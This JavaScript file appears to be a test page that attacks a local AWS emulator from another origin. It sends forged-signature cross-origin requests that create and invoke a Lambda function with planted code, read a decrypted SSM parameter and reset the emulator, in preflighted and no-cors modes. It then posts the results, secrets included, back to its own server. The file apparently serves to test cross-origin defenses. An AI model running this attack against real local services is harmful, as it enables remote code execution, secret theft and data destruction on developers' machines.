// What a page of another origin tries on the local AWS; it tells its own server what came of it.
const FUNCTIONS = '/2015-03-31/functions';
const found = {};

const credential = service => `test/20260101/us-east-1/${service}/aws4_request`;
const signed = service => ({
  Authorization: `AWS4-HMAC-SHA256 Credential=${credential(service)}, SignedHeaders=host, Signature=0`,
});
const inQuery = service => '?' + new URLSearchParams({
  'X-Amz-Algorithm': 'AWS4-HMAC-SHA256', 'X-Amz-Credential': credential(service), 'X-Amz-Date': '20260101T000000Z',
  'X-Amz-Expires': '604800', 'X-Amz-SignedHeaders': 'host', 'X-Amz-Signature': '0',
});

async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, {method: 'POST', ...options});
    found[name] = `${answer.type} ${answer.status} ${await answer.text()}`;
  } catch (error) {
    found[name] = String(error);
  }
}

async function attack({aws, role, code, parameter, name}) {
  const planted = suffix => JSON.stringify({
    FunctionName: name + suffix, Runtime: 'python3.13', Role: role, Handler: 'index.handler', Code: {ZipFile: code},
  });
  // With a preflight: the page may set any header, and read the answer.
  await attempt('create', aws + FUNCTIONS, {headers: signed('lambda'), body: planted('')});
  await attempt('invoke', `${aws}${FUNCTIONS}/${name}/invocations`, {headers: signed('lambda'), body: '{}'});
  await attempt('read', aws + '/', {
    headers: {
      ...signed('ssm'), 'X-Amz-Target': 'AmazonSSM.GetParameter', 'Content-Type': 'application/x-amz-json-1.1',
    },
    body: JSON.stringify({Name: parameter, WithDecryption: true}),
  });
  // Without one: the browser asks nobody beforehand, and shows the page no answer.
  const blind = {mode: 'no-cors'};
  const lambda = inQuery('lambda');
  await attempt('create blindly', aws + FUNCTIONS + lambda, {...blind, body: planted('-blindly')});
  await attempt('invoke blindly', `${aws}${FUNCTIONS}/${name}-blindly/invocations${lambda}`, {...blind, body: '{}'});
  await attempt('reset blindly', aws + '/_ministack/reset', blind);
  await attempt('reset', aws + '/_ministack/reset', {headers: {'X-Any': '1'}});
}

fetch('/task').then(answer => answer.json()).then(attack).finally(() =>
  fetch('/found', {method: 'POST', body: JSON.stringify(found)}));
